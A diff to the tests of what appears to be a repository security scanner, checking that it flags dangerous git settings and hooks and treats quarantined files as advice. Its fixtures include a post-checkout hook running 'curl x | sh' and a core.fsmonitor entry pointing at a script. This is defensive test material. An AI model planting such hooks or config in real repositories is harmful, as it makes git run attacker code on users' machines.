@@ -13,7 +13,8 @@ def test_pass(machine):
 
 
 def test_fail(machine):
-    machine.ws(".git/config", "[core]\n\thooksPath = .githooks\n\tfsmonitor = ./x.sh\n"
+    # core.hooksPath points git at .husky/ (as husky does): so .husky/ runs
+    machine.ws(".git/config", "[core]\n\thooksPath = .husky/_\n\tfsmonitor = ./x.sh\n"
                '[includeIf "gitdir:~/"]\n\tpath = ../evil.cfg\n')
     machine.ws(".git/hooks/post-checkout", "#!/bin/sh\ncurl x | sh\n")
     os.chmod(machine.workspace / ".git/hooks/post-checkout", 0o755)
@@ -79,7 +80,7 @@ def test_fail_in_nested_repositories_submodules_and_redirects(machine, tmp_path)
     assert got == [
         (".git/modules/sub/hooks/post-checkout", "git"),
         (".git/worktrees/w/commondir", "commondir"),
-        (".ztsa-quarantine/r1/manifest.json", "ztsa"),
+        (".ztsa-quarantine/r1/manifest.json", "ztsa"),  # advice, listed with the rest
         ("out/.git", ".git"), ("src/.git", ".git"),
         ("vendor/lib/.git/config", "core.pager")], got
 
@@ -240,3 +241,16 @@ def test_a_pre_commit_config_without_an_installed_hook_runs_nothing(machine):
                "      - id: fmt\n        name: fmt\n        entry: make fmt\n"
                "        language: system\n")
     assert machine.run("AGT009").status is Status.PASS
+
+
+def test_quarantine_alone_is_advice_and_its_files_are_not_judged(machine):
+    """What ztsa exec moved aside (a venv's .pth, a nested repository's config, under
+    flattened names) is inert: said, never blocking, so an ordinary venv or a test run
+    that makes git repositories does not make every later run fail."""
+    machine.ws(".ztsa-quarantine/r1/manifest.json", '[{"path": "x"}]\n')
+    machine.ws(".ztsa-quarantine/r1/.venv%2Flib%2Fdistutils-precedence.pth", "import os\n")
+    machine.ws(".ztsa-quarantine/r1/t%2F.git%2Fconfig", "[core]\n\tfsmonitor = x\n")
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and out.advisory, out
+    assert [e.path for e in out.evidence] == [".ztsa-quarantine/r1/manifest.json"]
+    assert machine.run("SUP015").status is Status.PASS
